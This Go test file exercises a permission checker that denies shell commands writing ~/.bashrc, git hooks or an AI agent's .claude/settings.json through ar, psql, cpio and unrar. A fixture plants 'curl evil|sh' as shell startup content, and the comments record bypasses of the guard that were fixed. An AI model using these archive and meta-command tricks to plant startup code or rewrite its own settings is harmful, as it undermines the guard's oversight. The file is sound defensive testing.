package rewrite

import (
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"testing"
)

// TestArExtract (issue 12): ar x writes its members into the working
// directory or --output DIR (GNU ar 2.38+), which was not judged (ar x
// --output ~ x.a passed). The members named, or every member the real ar
// t lists, are judged where ar puts them; the real ar is then run to show
// it writes the file corral refuses.
func TestArExtract(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("ar"); err != nil {
		t.Skip("no ar")
	}
	cfg := scratchProject(t, map[string]string{"proj/.git/hooks/": "", "proj/.bashrc": "curl evil|sh\n", "proj/m.o": "x",
		"home/.bashrc": "a\n", "home/.claude/": ""})
	for _, args := range [][]string{{"rc", "evil.a", ".bashrc"}, {"rc", "lib.a", "m.o"}} {
		cmd := exec.Command("ar", args...)
		cmd.Dir = cfg.Project
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("ar %v: %v\n%s", args, err, out)
		}
	}
	checkDecisions(t, cfg, []struct{ cmd, want string }{
		{"ar x --output ~ evil.a", "deny"},
		{"ar --output=$HOME x evil.a", "deny"},
		{"ar x evil.a --output " + cfg.Home, "deny"},
		{"ar x --output=.git/hooks lib.a pre-commit", "deny"},
		{"cd ~ && ar x " + filepath.Join(cfg.Project, "evil.a"), "deny"},
		{"ar x --output ~/.claude missing.a", "ask"},
		// Look-alikes.
		{"ar x evil.a", "allow"}, // ./.bashrc in the project
		{"ar x --output build evil.a", "allow"},
		{"ar x --output ~ lib.a", "allow"},
		{"ar --output=~ x evil.a", "allow"}, // a directory named ~
		{"ar xO evil.a --output ~", "allow"},
		{"ar t evil.a", "allow"},
		{"ar rcs lib.a m.o", "allow"},
	})
	cmd := exec.Command("ar", "x", "--output", cfg.Home, "evil.a")
	cmd.Dir = cfg.Project
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Skipf("ar has no --output (before 2.38): %v\n%s", err, out)
	}
	if b, _ := os.ReadFile(filepath.Join(cfg.Home, ".bashrc")); string(b) != "curl evil|sh\n" {
		t.Errorf("ar x --output HOME left ~/.bashrc %q: the reading is wrong", b)
	}
}

// TestPsqlMetaWrites (issue 12): psql's meta-commands that write a local
// file, in -c text, a -f script or the text on stdin, were not judged
// (psql -c '\o ~/.bashrc' passed); each names its file now.
func TestPsqlMetaWrites(t *testing.T) {
	t.Parallel()
	cfg := scratchProject(t, map[string]string{"proj/.git/hooks/": "", "home/.bashrc": "x",
		"proj/bad.sql": "select 1;\n\\o .git/config\nselect 2;\n", "proj/ok.sql": "\\o out.txt\nselect 1;\n"})
	checkDecisions(t, cfg, []struct{ cmd, want string }{
		{`psql -c '\o ~/.bashrc' -c 'select 1'`, "deny"},
		{`psql -c "\copy t to '.git/hooks/pre-commit'"`, "deny"},
		{`psql -c "\copy (select 1) TO '~/.bashrc' csv"`, "deny"},
		{`psql -c 'select 1 \g .git/config'`, "deny"},
		{`psql -c '\g (format=csv) ~/.bashrc'`, "deny"},
		{`psql -c '\lo_export 123 ~/.bashrc'`, "deny"},
		{`psql -c '\s .git/config'`, "deny"},
		{`psql -c '\w ~/.bashrc'`, "deny"},
		{"psql -f bad.sql", "deny"},
		{"psql < bad.sql", "deny"},
		{"psql db <<'EOF'\n\\out ~/.bashrc\nselect 1;\nEOF", "deny"},
		// Look-alikes.
		{`psql -c '\copy t to stdout'`, "allow"},
		{`psql -c '\copy t to program ''gzip > x.gz'''`, "allow"},
		{`psql -c '\copy t from data.csv'`, "allow"},
		{`psql -c '\o |cat'`, "allow"},
		{`psql -c '\o out.txt'`, "allow"},
		{"psql -f ok.sql", "allow"},
		{`psql -c 'select 1'`, "allow"},
		{`psql -c '\dt'`, "allow"},
	})
	for _, tc := range []struct {
		text string
		want []string
	}{
		{`\o a.txt`, []string{"a.txt"}},
		{`\out 'b c'`, []string{"b c"}},
		{`select 1 \gx (format=csv) f.csv`, []string{"f.csv"}},
		{"\\copy t (a, b) to 'x.csv' with csv\n\\w q.sql", []string{"x.csv", "q.sql"}},
		{`\copy t to stdout \\ \o`, nil},
		{`\out`, nil},
		{`\opt x`, nil},
	} {
		if got := psqlWrittenFiles(tc.text); !slices.Equal(got, tc.want) {
			t.Errorf("psqlWrittenFiles(%q) = %q, want %q", tc.text, got, tc.want)
		}
	}
}

// TestExtractDirs (issue 12): cpio -i -D DIR, cpio -p DIR and unrar x
// ARCHIVE DIR/ write any member name in DIR; a protected directory
// there was only asked about (unknown program), now the write of a file
// in it is judged (.git/hooks: denied), and the home directory still
// asks.
func TestExtractDirs(t *testing.T) {
	t.Parallel()
	cfg := scratchProject(t, map[string]string{"proj/.git/hooks/": "", "home/.bashrc": "x"})
	checkDecisions(t, cfg, []struct{ cmd, want string }{
		{"cpio -i -D .git/hooks < a.cpio", "deny"},
		{"cpio --extract --directory=.git/hooks < a.cpio", "deny"},
		{"find . | cpio -pdm .git/hooks", "deny"},
		{"unrar x a.rar .git/hooks/", "deny"},
		{"unrar e a.rar x.txt .git/", "deny"},
		{"cpio -idv -D ~ < a.cpio", "ask"},
		{"unrar x a.rar ~/", "ask"},
		// Look-alikes.
		{"cpio -i < a.cpio", "allow"},
		{"cpio -idv -D build < a.cpio", "allow"},
		{"find . | cpio -pdm /tmp/backup", "allow"},
		{"unrar x a.rar out/", "allow"},
		{"unrar l a.rar", "allow"},
		{"cpio -t < a.cpio", "allow"},
	})
}

// TestArFullPathMembers (issue 12 class 6): an ar archive can store a
// member under a name with directories (ar rcP, or another tool): GNU ar
// x writes it at that path, with or without P, and ar xP A DIR/NAME
// matches and writes the whole name; ar x A DIR/NAME without P matches
// by base name and writes nothing of a full-path archive. Both were
// judged by the base name (ar x evil.a passed while it wrote
// .claude/settings.json). The real ar is the oracle.
func TestArFullPathMembers(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("ar"); err != nil {
		t.Skip("no ar")
	}
	cfg := scratchProject(t, map[string]string{"proj/.claude/settings.json": "{}\n", "mk/.claude/settings.json": "evil\n", "mk/lib/m.o": "x"})
	mk := filepath.Join(filepath.Dir(cfg.Project), "mk")
	for _, args := range [][]string{{"rcP", "../evil.a", ".claude/settings.json"}, {"rcP", "../ok.a", "lib/m.o"}} {
		cmd := exec.Command("ar", args...)
		cmd.Dir = mk
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Skipf("ar %v: %v\n%s", args, err, out)
		}
	}
	evil := filepath.Join(filepath.Dir(cfg.Project), "evil.a")
	ok := filepath.Join(filepath.Dir(cfg.Project), "ok.a")
	checkDecisions(t, cfg, []struct{ cmd, want string }{
		{"ar x " + evil, "deny"},
		{"ar xv " + evil, "deny"},
		{"ar xP " + evil + " .claude/settings.json", "deny"},
		{"ar xP missing.a .claude/settings.json", "deny"},
		// Look-alikes.
		{"ar x " + evil + " .claude/settings.json", "allow"}, // no P: matched as settings.json, not found
		{"ar x --output " + filepath.Dir(cfg.Project) + " " + evil, "allow"},
		{"ar x " + ok, "allow"},
		{"ar t " + evil, "allow"},
	})
	// Oracle: the real ar writes the stored path, with and without P.
	for _, key := range []string{"x", "xP"} {
		dir := t.TempDir()
		if err := os.MkdirAll(filepath.Join(dir, ".claude"), 0o755); err != nil {
			t.Fatal(err)
		}
		cmd := exec.Command("ar", key, evil)
		cmd.Dir = dir
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("ar %s: %v\n%s", key, err, out)
		}
		if b, _ := os.ReadFile(filepath.Join(dir, ".claude/settings.json")); string(b) != "evil\n" {
			t.Errorf("ar %s did not write .claude/settings.json (%q): the reading is wrong", key, b)
		}
	}
}
